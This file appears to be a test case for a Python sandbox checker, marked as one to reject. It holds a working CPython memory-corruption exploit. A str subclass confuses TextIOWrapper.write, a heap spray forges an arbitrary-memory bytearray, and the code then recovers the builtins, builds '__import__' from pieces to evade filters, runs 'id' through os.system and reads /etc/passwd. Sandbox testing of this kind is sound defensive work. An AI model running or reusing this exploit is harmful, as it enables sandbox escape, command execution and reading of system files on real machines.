# expect: reject memory
# line: 38
# why: typing.Text is str: a class deriving from it is a str subclass whose replace answers TextIOWrapper.write's call by name
import typing
import io


class Sink:
    def write(self, b):
        return len(b)

    def flush(self):
        pass

    def writable(self):
        return True

    def readable(self):
        return False

    def seekable(self):
        return False

    closed = False


def shaped():
    xs = []
    while True:
        xs.append(b"")
        if len(xs) == 60:
            break
    del xs[32:]
    return xs


class E(typing.Text):
    def replace(self, old, new):
        return HOLD[0]


def w8(v):
    return v.to_bytes(8, "little")


fake = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = None
tries = 0
keep = []
while mem is None and tries < 8:
    tries += 1
    items = shaped()
    items[0] = b"\x00" * 48 + fake
    HOLD = [items]
    spray = [bytes([i % 250 + 1]) * 47 for i in range(4000)]
    for i in range(2001, 4000, 2):
        spray[i] = None
    sink = Sink()
    tw = io.TextIOWrapper(sink, encoding="utf-8", newline="\r\n")
    tw.write(E("a\n"))
    tw.flush()
    for x in spray:
        if type(x) is bytearray:
            mem = x
    keep.append(spray)
    keep.append(tw)
print("forged:", type(mem).__name__, "after", tries)
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
